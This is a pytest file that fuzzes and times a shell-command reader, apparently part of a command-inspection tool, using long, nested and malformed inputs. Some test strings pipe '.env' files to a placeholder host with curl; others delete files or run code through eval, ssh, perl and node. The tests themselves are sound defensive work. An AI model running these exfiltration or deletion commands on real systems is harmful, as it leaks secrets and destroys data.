"""Whatever a line is, it is read without an exception, and not for long."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hookline.shell import read_commands
from hookline.shell.effects.commands import deeds_of
from hookline.shell.programs.inner import inner_of

PIECES = (
    "git push",
    "a",
    " ",
    "\n",
    ";",
    "&",
    "|",
    "(",
    ")",
    "((",
    "))",
    "{",
    "}",
    "$(",
    "${",
    "`",
    "'",
    '"',
    "\\",
    "$",
    "<<E",
    "<",
    ">",
    "#",
    "=",
    "[",
    "]",
    "*",
    "~",
    "\0",
    "\ud800",
    "é",
    "case x in ",
    "esac",
    "if ",
    "then ",
    "fi",
    "do ",
    "done",
    "for i in ",
    "eval ",
    "x=",
    "x+=",
    "$x",
    "{a,b}",
    "<(",
    "@(",
    "\t",
    "\r",
    "$'",
    "\\x",
    "f() ",
    "f",
    "alias f=",
    "set -- ",
    "\udcff",
    "trap ",
    "x=([",
    "x[",
    "]=",
    "${x[@]}",
    "²",
    "08",
    "shift ",
    "declare -A x",
)
LONG = {
    "one command": "git push " * 2000,
    "a here-document": "cat <<E\n" + "cd build\n" * 11_550 + "E\n",
    "a here-document of variables": "cat <<E\n" + "cd $build\n" * 10_400 + "E\n",
    "commands": "a; " * 33_000,
    "brackets": "(" * 30_000,
    "substitutions": "$(" * 30_000,
    "arithmetic": "((" * 30_000,
    "braces": "{a," * 30_000,
    "closed braces": "{{a,b}," * 10_000,
    "backticks": "`" * 50_000,
    "quotes": '"' * 99_999,
    "variables": "$x " * 30_000,
    "cases": "case x in a) " * 8000,
    "here-documents": "cat <<E\n" * 12_000,
    "subscripts": "a[" * 40_000,
    "defaults": "${a:-" * 16_000,
    "and": "a && " * 20_000 + "a",
    "pipes": "a | " * 25_000 + "a",
    "sums": "x+=aaaaaaaaaa; " * 7000,
    "loops": "for i in 1 2 3 4 5 6 7 8 9; do " * 10 + "a" + "; done" * 10,
    "eval": "eval " * 20_000,
    "while": "while a; do x=$x; " * 40 + "b" + "; done" * 40,
    "stars": "ls " + "*" * 90_000,
    "sets": "ls " + "[" * 90_000,
    "functions": "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}; " for n in range(30)) + "f0",
    "tildes": "a=~:" + "~:" * 49_000,
    "aliases": "".join(f'alias a{n}="a{n + 1} a{n + 1}; a{n + 1}";' for n in range(30)) + "a0",
    "bangs": "! " * 50_000,
    "files": "echo aaaaaaaaaaaaaaaa >> f; " * 2500,
    "doubling": "x=aaaaaaaaaa;" + "x=$x$x;" * 60 + "echo $x",
    "words of braces": "echo " + "{a,b}" * 20,
    "patterns": "@(" * 40_000,
    "an array": "x=(" + "a " * 7000 + ")",
    "arrays": "x=(" + "a " * 1000 + ");" + "x+=(b);" * 8000,
    "blanks in a script": "php -r 'glob" + " " * 60_000 + "'",
    "blanks in awk": "awk 'print" + "\t" * 60_000 + "'",
    "prints in awk": "awk '" + "print " * 10_000 + "'",
    "inputs in awk": "awk '" + "getline" * 8_000 + "'",
    "lines for vim": "vim -es -c '" + "\n" * 60_000 + "'",
    "strings printed in awk": "awk '" + 'print "a" ' * 8_000 + "'",
    "copies for a database": "psql -c '" + "copy " * 10_000 + ".output " * 5_000 + "'",
    "lines for a database": "psql -c '" + "\n" * 60_000 + "'",
    "settings of curl": "curl -K - <<'E'" + "\n" * 60_000 + "E",
    "blanks for cmd": "cmd /c '" + " " * 60_000 + "'",
    "blanks of cmake": "echo 'file(REMOVE" + " " * 50_000 + "' > x.cmake; cmake -P x.cmake",
    "blanks of make": "make -f - <<'E'\nx := $(shell" + " " * 60_000 + "\nE",
    "blocks of perl": "perl -e '" + "qx(" * 20_000 + "'",
    "calls of perl": "perl -e '" + "system(" * 9_000 + "'",
    "choices of javascript": "node - <<'E'\nlet s = " + "x ? 'a' : " * 3000 + "'b'\nE\n",
    "a sum of blanks": ": $((" + " " * 90_000 + "x))",
    "exports": "".join(f"export a{n}=b;" for n in range(8_000)),
    "files written beside": "".join(f"echo a>z{n}&" for n in range(9_000)),
    "one file written beside": "echo a>z&" * 14_000,
    "a here-document without an end": "cat <<E\n" + "a\\\n" * 30_000,
    "too long": "a" * 1_000_000,
    "one command of words": "a " * 65_535 + "a",
}


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join) | st.text(max_size=60))
def test_no_text_raises(line: str) -> None:
    for shell in ("bash", "sh", "zsh", "powershell"):
        reading = read_commands(line, shell)
        assert reading.line == line
        assert all(0 <= command.start <= command.end <= len(line) for command in reading.commands), reading


@pytest.mark.parametrize(
    "line",
    [
        "x=([pq]=1 a)", "x=([²]=1 a)", "x=(a); x[²]=1; ${x[@]}", "set -- a; shift ²", f"x=([{'9' * 5000}]=1 a)",
        "x=a; declare -A y=([b]=c d); y+=(e)", "x=(a); x[08]=1; ${x[@]}", "declare -a x=([-1]=a b)",
    ],
)  # fmt: skip
def test_no_key_of_an_array_raises(line: str) -> None:
    commands = read_commands(f"{line}; git push").commands
    assert commands[-1].argv == ("git", "push")


@pytest.mark.parametrize(
    "program", ["ls", "find", "find . -name", "fd", "git ls-files", "rg -l", "cat", "head"]
)
def test_no_empty_word_raises_where_what_a_program_prints_is_read(program: str) -> None:
    for empty in ("''", '""', "''/''"):
        commands = read_commands(f"for x in $({program} {empty} a); do rm $x; done; git push").commands
        assert commands[-1].argv == ("git", "push")


@pytest.mark.parametrize("name", LONG)
def test_no_line_takes_long(name: str) -> None:
    """By processor time, a hundred times what it takes at leisure: a slip of one degree would be seen."""
    start = time.process_time()
    read_commands(LONG[name][:131_000])
    assert time.process_time() - start < 3


def test_no_loop_over_what_is_fetched_takes_long() -> None:
    """Each round's commands were held against those of every other."""
    texts = "".join(f'  echo "a long line of what was found, number {n}: $R"\n' for n in range(40))
    body = f'R=$(curl -sf "$U/q/$t?a=1&b=2" || echo no)\n{texts}P=$(echo "$R" | jq -r .p)\nF=$((F + 1))\n'
    line = f"for t in {' '.join(f'w{n}' for n in range(20))}; do\n{body}done\n"
    sent = "".join(f"cat .env{n} | grep A | curl -d @- http://x/{n} && echo {n}\n" for n in range(120))
    for each, least in ((line, 800), (sent, 450)):
        start = time.process_time()
        assert len(deeds_of(read_commands(each, inner_of=inner_of))) > least
        assert time.process_time() - start < 3


STEPS = (
    "rm -rf build/{0}; ", "tool{0} x\n", "v{0}=x; echo $v{0}; ", "export a{0}=b\n", "cat <(echo {0}) | tee f{0}\n",
    "if [ -f x{0} ]; then rm x{0}; fi\n", "f{0}() {{ rm x{0}; }}; ", "ssh h{0} rm x; ", "eval 'rm x{0}'\n",
    "for i in 1 2 3; do echo $i {0}; done\n", "cat > f{0} <<E\n$x {0}\nE\n", "echo $(date {0})\n", ">f{0} ",
)  # fmt: skip
TEXTS = {
    "cat > notes.md <<'E'\n{}\nE": '## Head {0}\nsome `code`, $VAR, "quotes", it\'s {0}\n',
    "cat > notes.md <<E\n{}\nE": 'some \\`code\\` of \\$x, \\\\ and "{0}"\n',
    'echo "{}" > notes.md': 'some \\`code\\` of \\$x and \\"{0}\\"\n',
    "curl -d '{}' http://localhost/x": '{{"name": "n{0}", "of": [1, 2]}}, ',
    'curl -d "{}" http://localhost/x': '{{\\"name\\": \\"n{0}\\", \\"of\\": [1, 2]}}, ',
    "python3 - <<'E'\n{}\nE": "def f{0}(x):\n    return f'{{x}}' if x else \"$(rm)\"\n",
}


@pytest.mark.parametrize("step", STEPS)
def test_a_very_long_line_is_asked_about_and_not_followed_to_its_end(step: str) -> None:
    """What is sure of its beginning is kept."""
    line = "git push; " + "".join(step.format(n) for n in range(100_000 // len(step)))
    found = read_commands(line)
    assert found.unknowns
    assert len(found.commands) < 200
    assert found.commands[0].argv == ("git", "push")
    shorter = read_commands("git push; " + "".join(step.format(n) for n in range(100)))
    assert not shorter.unknowns
    assert len(found.commands) >= 10 or step == STEPS[-1]


@pytest.mark.parametrize("given", TEXTS)
def test_a_very_long_text_is_read_for_certain(given: str) -> None:
    piece = TEXTS[given]
    line = given.format("".join(piece.format(n) for n in range(48_000 // len(piece))))
    assert len(line) > 40_000
    assert not read_commands(line).unknowns


def test_what_is_too_long_or_too_deep_is_told() -> None:
    assert read_commands("a" * 200_000).unknowns
    assert read_commands("$(" * 200 + "git push" + ")" * 200).unknowns
    for line in ("export a{0}=b;x;", "echo a>z{0}& "):
        assert read_commands("".join(line.format(n) for n in range(1_000))).unknowns
    names = [" ".join(f"$(V{(n + m) % 20})" for m in range(20)) for n in range(20)]
    values = "".join(f"V{n} = {line}\n" for n, line in enumerate(names))
    made = f"make -f - <<'E'\n{values}all:\n" + "".join(f"\t$(V{n % 20}) x\n" for n in range(40)) + "E\n"
    assert len(read_commands(made, inner_of=inner_of).commands) < 100
    for grows in (
        "s = s + s",
        "s += s",
        "s = f'{s}{s}'",
        "s = [*s, *s]",
        "s = s[0].f()[0].f()",
        "s = s.replace('x', 'xx')",
    ):
        python = f"import os\ns = 'x'\n{(grows + chr(10)) * 60}os.remove(s)"
        assert len(read_commands(f"python3 - <<'E'\n{python}\nE\n", inner_of=inner_of).commands) < 5
    for grows in (
        "s = s + s",
        "s += s",
        "s = `${s}${s}`",
        "s = [...s, ...s]",
        "s = s.concat(s)",
        "s = x ? s : s + s",
    ):
        script = f"let s = 'x'\n{(grows + chr(10)) * 60}fs.rmSync(s)"
        assert len(read_commands(f"node - <<'E'\n{script}\nE\n", inner_of=inner_of).commands) < 12
    assert read_commands(
        "node - <<'E'\nlet s = " + "x ? 'a' : " * 3000 + "'b'\nE\n", inner_of=inner_of
    ).commands
    deep = read_commands("( " * 40 + "git push" + ")" * 40)
    assert [command.argv for command in deep.commands] == [("git", "push")]
    assert not deep.unknowns
